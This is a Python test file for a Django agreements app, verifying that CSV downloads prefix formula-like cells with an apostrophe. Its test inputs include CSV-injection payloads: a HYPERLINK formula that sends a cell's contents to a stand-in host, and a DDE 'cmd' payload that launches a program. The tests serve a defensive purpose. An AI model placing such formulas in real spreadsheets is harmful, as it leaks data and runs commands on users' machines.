"""The agreements' and signatories' CSV downloads open in a spreadsheet as text, never formulas."""

import csv
import io
from datetime import date

import pytest
from django.urls import reverse

from agreements import services
from agreements.tests.factories import make_agreement, png_upload

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://malo.example/?x="&A1,"Ver")'


def download(client, name):
    response = client.get(reverse(name), {"formato": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_a_signatory_named_like_a_formula_is_exported_as_text(member, institution_admin, login, client):
    services.signatory_submit(
        institution=member,
        actor=institution_admin,
        full_name=FORMULA,
        position="+52 55 1234 5678",
        rank="@Titular",
        specimen_file=png_upload(),
        valid_from=date(2026, 1, 1),
        attested=True,
    )
    login(institution_admin)
    rows = download(client, "agreements:signatory_list")
    assert rows[1][:3] == ["'" + FORMULA, "'+52 55 1234 5678", "'@Titular"]


def test_agreement_titles_that_look_like_formulas_are_exported_as_text(
    commission, member, commission_admin, login, client
):
    for title in ("-2+3+cmd|' /C calc'!A0", "\tOculto", "Convenio normal"):
        make_agreement(members=[member], commission=commission, actor=commission_admin, title=title)
    login(commission_admin)
    titles = sorted(row[1] for row in download(client, "agreements:list")[1:])
    assert titles == ["'\tOculto", "'-2+3+cmd|' /C calc'!A0", "Convenio normal"]
